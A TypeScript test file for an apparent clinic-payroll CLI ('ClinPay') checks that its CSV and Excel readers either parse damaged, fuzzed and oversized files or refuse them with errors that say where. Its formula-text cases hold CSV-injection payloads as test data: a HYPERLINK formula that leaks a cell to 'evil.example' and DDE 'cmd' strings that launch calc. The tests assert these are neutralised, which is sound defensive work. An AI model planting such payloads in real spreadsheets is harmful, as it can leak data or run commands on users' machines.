/**
 * The readers against nasty files: the corpus in test/fixtures/nasty/ (small, committed), files
 * generated here (a 50 MB log, truncated and bit-flipped workbooks, random bytes), and the built
 * workbook for files whose cells look like formulas.
 *
 * The rule every case checks (SPEC §2, §5): a file is either read correctly — the values asserted
 * here — or refused with an InputError whose problems say where: the cell (row and column), the
 * row (a row with cells past the header), or the whole file (row 0: not a table at all, empty,
 * damaged). Never another exception, never a hang, never a crash of the process.
 * read.test.ts and csv.test.ts cover each feature once on clean inputs; this file combines them
 * and goes through the whole path a user's file takes (readTable → the log or offer parser).
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import fc from "fast-check";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { readTable } from "../../../src/cli/read";
import { parseCsv } from "../../../src/core/csv";
import { InputError } from "../../../src/core/table";
import { parseAppointments, parseTimeLog } from "../../../src/core/inputs/logs";
import type { Appointment, Problem, RawTable, TimeEntry } from "../../../src/core/inputs/types";
import { main } from "../../../src/cli/main";
import type { CliIO } from "../../../src/cli/command";

const NASTY = path.join(__dirname, "../../fixtures/nasty");
const nasty = (name: string) => path.join(NASTY, name);
let dir: string;

beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "clinpay-nasty-"));
});
afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

type Kind = "appointments" | "time";

/** A file through the path the CLI gives it: readTable, then the log parser. */
async function load(file: string, kind: Kind): Promise<{ table: RawTable; rows: Array<Appointment | TimeEntry> }> {
  const table = await readTable(file, kind === "appointments" ? "appointments" : "time log");
  const rows = kind === "appointments" ? parseAppointments(table) : parseTimeLog(table);
  return { table, rows };
}

/** The problems of a refused file; fails when the file was read, or failed any other way. */
async function refusal(file: string, kind: Kind): Promise<Problem[]> {
  try {
    await load(file, kind);
  } catch (e) {
    if (!(e instanceof InputError)) throw new Error(`${path.basename(file)} failed with ${String(e)} instead of an InputError`);
    checkPlaces(e.problems);
    return e.problems;
  }
  throw new Error(`${path.basename(file)} was read, but should have been refused`);
}

/** Every problem says where it is, in words a user can act on. */
function checkPlaces(problems: Problem[]): void {
  expect(problems.length).toBeGreaterThan(0);
  for (const p of problems) {
    expect(p.source).toBeTruthy();
    expect(Number.isInteger(p.row) && p.row >= 0).toBe(true);
    expect(p.message.length).toBeGreaterThan(15);
    // A problem in a row names its column, except where there is no column name to give: extra
    // cells past the header (the row and the cell's text are given instead), a quote left open
    // in the header row itself (the line of the file is given instead), and a misplaced quote in
    // the header row (its text is given).
    if (p.row > 0 && !p.column) {
      expect(p.message).toMatch(/^this row has \d+ cells but the header row names \d+ columns|^a double quote opened here \(line \d+ of the file\)|^a double quote here is not where CSV allows one/);
    }
  }
}

const place = (p: Problem) => ({ row: p.row, column: p.column });

// ---- the committed corpus -----------------------------------------------------------------------

interface Case {
  file: string;
  kind: Kind;
  /** Read: checks on what came out. */
  read?: (r: { table: RawTable; rows: Array<Appointment | TimeEntry> }) => void;
  /** Refused: where each problem must be, and what its message must say. */
  refused?: Array<{ row: number; column: string; message: RegExp }>;
}

const appts = (rows: unknown[]) => rows as Appointment[];
const times = (rows: unknown[]) => rows as TimeEntry[];
const JAN5_2026 = 46027;

const CASES: Case[] = [
  {
    file: "appointments-bom-crlf.csv",
    kind: "appointments",
    read: ({ table, rows }) => {
      expect(table.headers[0]).toBe("Date"); // BOM and spaces gone
      const a = appts(rows);
      expect(a.map((r) => [r.row, r.date, r.status, r.reason, r.causeType, r.code, r.wrvu, r.visitType])).toEqual([
        [2, JAN5_2026, "completed", "", "patient", "99213", null, "video"],
        [3, JAN5_2026, "no_show", "video link failed, twice", "system", "99214", null, "video"],
        [4, JAN5_2026 + 1, "late_cancel", "", "patient", null, 1.5, "audio"],
      ]);
    },
  },
  {
    file: "appointments-semicolon-decimal-comma.csv",
    kind: "appointments",
    read: ({ table, rows }) => {
      expect(table.decimalComma).toBe(true);
      const a = appts(rows);
      expect(a.map((r) => r.wrvu)).toEqual([0.97, 1.92, 2.5]);
      expect(a[1].reason).toBe("Verbindung fehlgeschlagen; Video");
      expect(a[2].visitType).toBe("in_person");
    },
  },
  {
    file: "time-semicolon-decimal-comma.csv",
    kind: "time",
    read: ({ rows }) => {
      expect(times(rows).map((r) => [r.activity, r.minutes, r.paid])).toEqual([
        ["Nachrichten", 30.5, false],
        ["Befunde", 15, false],
        ["Dokumentation", 1234.5, true],
      ]);
    },
  },
  {
    // Multi-line cells count as one spreadsheet row, so the bad status is on row 5, not line 8.
    file: "appointments-quoted-newlines.csv",
    kind: "appointments",
    // "no show?" reads as no_show: status words match ignoring case and punctuation (SPEC §2).
    read: ({ rows }) => expect(appts(rows).map((a) => [a.row, a.status])).toEqual([[2, "no_show"], [3, "no_show"], [4, "completed"], [5, "no_show"]]),
  },
  {
    file: "appointments-formula-text.csv",
    kind: "appointments",
    read: ({ rows }) => {
      expect(appts(rows).map((r) => r.reason)).toEqual([
        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "=1+1",
      ]);
    },
  },
  {
    file: "time-formula-text.csv",
    kind: "time",
    read: ({ rows }) => {
      expect(times(rows).map((r) => r.activity)).toEqual(['=HYPERLINK("http://evil.example","inbox")', "+charting", "@results"]);
    },
  },
  {
    file: "appointments-formula-in-status.csv",
    kind: "appointments",
    refused: [
      { row: 3, column: "status", message: /map it to completed, no_show, late_cancel, cancelled or not-yet/ },
      { row: 4, column: "wrvu", message: /is not a number/ },
    ],
  },
  { file: "empty-0-bytes.csv", kind: "appointments", refused: [{ row: 0, column: "", message: /is empty: its first row should name the columns/ }] },
  { file: "bom-only.csv", kind: "appointments", refused: [{ row: 0, column: "", message: /is empty/ }] },
  { file: "blank-lines-only.csv", kind: "time", refused: [{ row: 0, column: "", message: /is empty/ }] },
  { file: "appointments-header-only.csv", kind: "appointments", refused: [{ row: 0, column: "", message: /has no data rows under the header row/ }] },
  {
    file: "empty-0-bytes.xlsx",
    kind: "appointments",
    refused: [{ row: 0, column: "", message: /is not a readable Excel workbook/ }],
  },
  {
    file: "appointments-truncated-in-quote.csv",
    kind: "appointments",
    refused: [{ row: 3, column: "reason", message: /double quote opened here \(line 3 of the file\) is never closed/ }],
  },
  {
    file: "appointments-truncated-mid-row.csv",
    kind: "appointments",
    refused: [
      { row: 3, column: "date", message: /is not a date/ },
      { row: 3, column: "status", message: /is empty: type completed, no_show, late_cancel or cancelled/ },
    ],
  },
  {
    file: "binary-junk.csv",
    kind: "appointments",
    refused: [{ row: 0, column: "", message: /does not look like a CSV table/ }],
  },
  { file: "binary-junk.xlsx", kind: "appointments", refused: [{ row: 0, column: "", message: /is not a readable Excel workbook/ }] },
  { file: "screenshot.png.csv", kind: "time", refused: [{ row: 0, column: "", message: /does not look like a CSV table/ }] },
  { file: "utf16-no-bom.csv", kind: "time", refused: [{ row: 0, column: "", message: /binary data \(NUL bytes\)/ }] },
  {
    file: "zip-not-workbook.xlsx",
    kind: "appointments",
    refused: [{ row: 0, column: "", message: /could not be opened as an Excel workbook|has no worksheets/ }],
  },
  {
    file: "appointments-truncated.xlsx",
    kind: "appointments",
    refused: [{ row: 0, column: "", message: /could not be opened as an Excel workbook: it may be damaged or only partly downloaded/ }],
  },
  {
    file: "time-ragged.csv",
    kind: "time",
    refused: [
      { row: 3, column: "", message: /this row has 5 cells but the header row names 4 columns/ },
      // "$1" and "200" are what the cells hold: 1 minute is a number, 200 is not yes or no.
      { row: 3, column: "paid", message: /must be yes or no/ },
    ],
  },
];

describe("the nasty corpus: read correctly, or refused saying where", () => {
  test("every file in test/fixtures/nasty has a case, and every case a file", () => {
    expect(fs.readdirSync(NASTY).sort()).toEqual(CASES.map((c) => c.file).sort());
  });

  test.each(CASES.map((c) => [c.file, c] as const))("%s", async (_name, c) => {
    const file = nasty(c.file);
    if (c.read) {
      c.read(await load(file, c.kind));
      return;
    }
    const problems = await refusal(file, c.kind);
    for (const p of problems) expect(p.source.startsWith(file)).toBe(true);
    expect(problems.map(place)).toEqual(c.refused!.map(({ row, column }) => ({ row, column })));
    c.refused!.forEach((want, i) => expect(problems[i].message).toMatch(want.message));
  });

  test("quoted newlines: CR, LF and CRLF inside quotes and doubled quotes stay in their cells", () => {
    const t = parseCsv(fs.readFileSync(nasty("appointments-quoted-newlines.csv"), "utf8"), "q.csv");
    expect(t.rows.map((r) => r[2])).toEqual(["line one\nline two", 'said "I forgot"\r\ncalled back', "old\rmac", ""]);
  });
});

// ---- formula text, from the file to the built workbook -------------------------------------------

function quietIO(): CliIO & { errors: string[] } {
  const errors: string[] = [];
  return { errors, out: () => undefined, err: (l) => errors.push(l), progress: () => undefined };
}

/** Shared strings and sheet xml of a built workbook, and the formulas with their string literals
 *  blanked (text inside "..." in a formula is data, e.g. a COUNTIFS criterion, not code). */
async function openBuilt(file: string): Promise<{ strings: string[]; formulaCode: string[]; textCells: Map<string, string> }> {
  const zip = await JSZip.loadAsync(fs.readFileSync(file));
  const unescape = (s: string) =>
    s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, "&");
  const sst = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? "";
  const strings = [...sst.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) =>
    [...m[1].matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((t) => unescape(t[1])).join("")
  );
  const formulaCode: string[] = [];
  const textCells = new Map<string, string>();
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    const xml = await zip.file(name)!.async("string");
    for (const m of xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const [, ref, attrs, body = ""] = m;
      const f = /<f[^>]*>([\s\S]*?)<\/f>/.exec(body);
      if (f) formulaCode.push(unescape(f[1]).replace(/"(?:[^"]|"")*"/g, '""'));
      else if (/t="s"/.test(attrs)) textCells.set(ref, strings[Number(/<v>(\d+)<\/v>/.exec(body)![1])]);
      else if (/t="inlineStr"/.test(attrs)) textCells.set(ref, unescape(/<t[^>]*>([\s\S]*?)<\/t>/.exec(body)![1]));
    }
  }
  return { strings, formulaCode, textCells };
}

describe("cells that look like formulas are written as text (SPEC §5)", () => {
  const INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    '=HYPERLINK("http://evil.example","inbox")',
    "+charting",
    "@results",
  ];

  async function expectTextOnly(out: string): Promise<void> {
    const built = await openBuilt(out);
    const cellTexts = new Set(built.textCells.values());
    for (const s of INJECTIONS) expect([s, cellTexts.has(s)]).toEqual([s, true]);
    for (const code of built.formulaCode) expect(code).not.toMatch(/HYPERLINK|cmd|SUM\(1\+1\)|charting|results|evil/i);
    // And as a spreadsheet library reads it back: strings, not formula objects.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const found = new Set<string>();
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string" && INJECTIONS.includes(cell.value)) found.add(cell.value);
        })
      )
    );
    expect([...found].sort()).toEqual([...INJECTIONS].sort());
  }

  test("CSV logs through clinpay leakage", async () => {
    const out = path.join(dir, "formula-text.xlsx");
    const io = quietIO();
    const code = await main(["leakage", "--appointments", nasty("appointments-formula-text.csv"), "--time", nasty("time-formula-text.csv"), "-o", out], io);
    expect(io.errors).toEqual([]);
    expect(code).toBe(0);
    await expectTextOnly(out);
  });

  test("an .xlsx log: text cells stay text, a real formula cell is read as its value", async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Appointments");
    ws.addRow(["date", "status", "reason", "cause_type", "code", "wrvu", "visit_type"]);
    const reasons = INJECTIONS.slice(0, 5);
    reasons.forEach((r, i) => ws.addRow([new Date(Date.UTC(2026, 0, 5 + i)), "no_show", r, "patient", 99213, null, "video"]));
    // A cell holding a real formula: its cached result is the data, the formula never travels.
    ws.addRow([new Date(Date.UTC(2026, 0, 12)), "no_show", { formula: 'HYPERLINK("http://evil.example","video link failed")', result: "video link failed" }, "system", 99214, null, "video"]);
    const wbTime = new ExcelJS.Workbook();
    const ts = wbTime.addWorksheet("Time log");
    ts.addRow(["date", "activity", "minutes", "paid"]);
    INJECTIONS.slice(5).forEach((a, i) => ts.addRow([new Date(Date.UTC(2026, 0, 5 + i)), a, 30, "no"]));
    const apptFile = path.join(dir, "formula-text.xlsx.in.xlsx");
    const timeFile = path.join(dir, "formula-time.in.xlsx");
    await wb.xlsx.writeFile(apptFile);
    await wbTime.xlsx.writeFile(timeFile);

    const a = appts((await load(apptFile, "appointments")).rows);
    expect(a.map((r) => r.reason)).toEqual([...reasons, "video link failed"]);

    const out = path.join(dir, "formula-text-from-xlsx.xlsx");
    const io = quietIO();
    expect(await main(["leakage", "--appointments", apptFile, "--time", timeFile, "-o", out], io)).toBe(0);
    await expectTextOnly(out);
    const built = await openBuilt(out);
    expect(built.formulaCode.join("\n")).not.toMatch(/HYPERLINK/);
  });
});

// ---- damaged workbooks ----------------------------------------------------------------------------

describe("damaged workbooks", () => {
  let whole: Buffer;
  beforeAll(async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("appointments");
    ws.addRow(["date", "status", "reason", "cause_type", "code", "wrvu", "visit_type"]);
    for (let i = 0; i < 300; i++) ws.addRow([new Date(Date.UTC(2026, 0, 5 + (i % 20))), i % 4 ? "completed" : "no_show", i % 4 ? null : "video link failed", null, 99213, null, "video"]);
    whole = Buffer.from(await wb.xlsx.writeBuffer());
  });

  test("cut anywhere (10% … the last byte): refused as damaged, never read as a shorter log", async () => {
    for (const keep of [0.1, 0.25, 0.5, 0.75, 0.9, 0.99]) {
      const file = path.join(dir, `cut-${keep}.xlsx`);
      fs.writeFileSync(file, whole.subarray(0, Math.floor(whole.length * keep)));
      const problems = await refusal(file, "appointments");
      expect(problems.map(place)).toEqual([{ row: 0, column: "" }]);
    }
    const lastByte = path.join(dir, "cut-last-byte.xlsx");
    fs.writeFileSync(lastByte, whole.subarray(0, whole.length - 1));
    // Only the end of the zip's directory is gone: refusing is right, reading all 300 rows is too.
    try {
      expect(appts((await load(lastByte, "appointments")).rows)).toHaveLength(300);
    } catch (e) {
      expect(e).toBeInstanceOf(InputError);
      checkPlaces((e as InputError).problems);
    }
  });

  test("a real ClinPay output cut in half is refused", async () => {
    const out = path.join(dir, "for-cutting.xlsx");
    expect(await main(["leakage", "--appointments", nasty("appointments-bom-crlf.csv"), "-o", out], quietIO())).toBe(0);
    const bytes = fs.readFileSync(out);
    const cut = path.join(dir, "clinpay-half.xlsx");
    fs.writeFileSync(cut, bytes.subarray(0, bytes.length >> 1));
    expect((await refusal(cut, "appointments")).map(place)).toEqual([{ row: 0, column: "" }]);
  });

  test("property: flipped bytes or a random cut give rows or an InputError, nothing else", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 8 }),
        fc.option(fc.nat(), { nil: undefined }),
        async (flips, cut) => {
          const bytes = Buffer.from(whole);
          for (const [at, xor] of flips) bytes[at % bytes.length] ^= xor;
          const file = path.join(dir, "flipped.xlsx");
          fs.writeFileSync(file, cut === undefined ? bytes : bytes.subarray(0, cut % bytes.length));
          try {
            const { rows } = await load(file, "appointments");
            expect(rows.length).toBeLessThanOrEqual(300);
          } catch (e) {
            if (!(e instanceof InputError)) throw e;
            checkPlaces(e.problems);
          }
        }
      ),
      { numRuns: 150 }
    );
  });
});

// ---- random bytes and mangled CSV ------------------------------------------------------------------

describe("random input", () => {
  test("property: any bytes named .csv or .xlsx give rows or an InputError", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2000 }), fc.constantFrom(".csv", ".xlsx", ".txt"), fc.constantFrom<Kind>("appointments", "time"), async (bytes, ext, kind) => {
        const file = path.join(dir, `random${ext}`);
        fs.writeFileSync(file, bytes);
        try {
          await load(file, kind);
        } catch (e) {
          if (!(e instanceof InputError)) throw e;
          checkPlaces(e.problems);
        }
      }),
      { numRuns: 300 }
    );
  });

  test("property: a good log with quotes, separators, NULs, BOMs and line breaks dropped in anywhere", () => {
    const good = fs.readFileSync(nasty("appointments-bom-crlf.csv"), "utf8");
    const noise = fc.constantFrom('"', ",", ";", "\t", "\r", "\n", "\r\n", "\u0000", "\ufeff", "\ufffd", "=", "é", '""', "sep=;\n");
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(), noise), { minLength: 1, maxLength: 6 }), (edits) => {
        let text = good;
        for (const [at, s] of edits) {
          const i = at % (text.length + 1);
          text = text.slice(0, i) + s + text.slice(i);
        }
        try {
          const rows = parseAppointments(parseCsv(text, "mangled.csv"));
          for (const r of rows) {
            expect(Number.isInteger(r.date)).toBe(true);
            expect(["completed", "no_show", "late_cancel", "cancelled"]).toContain(r.status);
          }
        } catch (e) {
          if (!(e instanceof InputError)) throw e;
          checkPlaces(e.problems);
        }
      }),
      { numRuns: 1000 }
    );
  });
});

// ---- big files ---------------------------------------------------------------------------------------

// 4 MB here: every shape below at a size no accident of small input hides. How long the 50 MB
// versions take and how much memory they need is measured by `npm run bench` (scripts/bench.js,
// BENCHMARKS.md), never asserted in `npm test`, where a loaded machine would fail it.
describe("big files", () => {
  const TARGET = 4 * 1024 * 1024;
  const STATUS = ["completed", "completed", "no_show", "late_cancel", "cancelled"];

  /** Writes a log of about TARGET bytes in slices, so the test never holds it as one string itself. */
  function writeLog(file: string, lastRow?: string): number {
    const fd = fs.openSync(file, "w");
    let bytes = 0;
    let n = 0;
    try {
      bytes += fs.writeSync(fd, "date,status,reason,cause_type,code,wrvu,visit_type\r\n");
      while (bytes < TARGET) {
        const lines: string[] = [];
        for (let k = 0; k < 5000; k++, n++) {
          const s = STATUS[n % 5];
          const missed = s === "no_show" || s === "late_cancel";
          const d = `2026-${String(1 + (n % 12)).padStart(2, "0")}-${String(1 + (n % 28)).padStart(2, "0")}`;
          lines.push(`${d},${s},${missed ? '"video link failed, again"' : ""},${missed ? (n % 2 ? "system" : "patient") : ""},${["99213", "99214", "G2211"][n % 3]},${n % 7 === 0 ? "1.5" : ""},video`);
        }
        bytes += fs.writeSync(fd, lines.join("\r\n") + "\r\n");
      }
      if (lastRow !== undefined) {
        bytes += fs.writeSync(fd, lastRow + "\r\n");
        n++;
      }
    } finally {
      fs.closeSync(fd);
    }
    return n;
  }

  test("a 4 MB appointment log is read in full", async () => {
    const file = path.join(dir, "big.csv");
    const n = writeLog(file);
    expect(fs.statSync(file).size).toBeGreaterThanOrEqual(TARGET);
    const a = appts((await load(file, "appointments")).rows);
    expect(a).toHaveLength(n);
    expect(a[n - 1].row).toBe(n + 1);
    expect(a[2]).toMatchObject({ status: "no_show", reason: "video link failed, again", causeType: "patient" });
  });

  test("a 4 MB log with one bad cell on its last row is refused at that row and column", async () => {
    const file = path.join(dir, "big-bad.csv");
    const n = writeLog(file, "2026-12-31,no_show,,,99213,lots,video");
    const problems = await refusal(file, "appointments");
    expect(problems.map(place)).toEqual([{ row: n + 1, column: "wrvu" }]);
  });

  // Lines of nothing, or one endless line: what a broken export or the wrong file can look like.
  test.each([
    ["blank lines", "\r\n"],
    ["commas", ","],
    ["one giant cell", "x"],
    ["quotes", '"'],
  ])("4 MB of %s is refused cleanly", async (_label, unit) => {
    const file = path.join(dir, "shape.csv");
    fs.writeFileSync(file, unit.repeat(Math.ceil(TARGET / unit.length)));
    const problems = await refusal(file, "appointments");
    expect(problems[0].row).toBeLessThanOrEqual(1);
  });
});
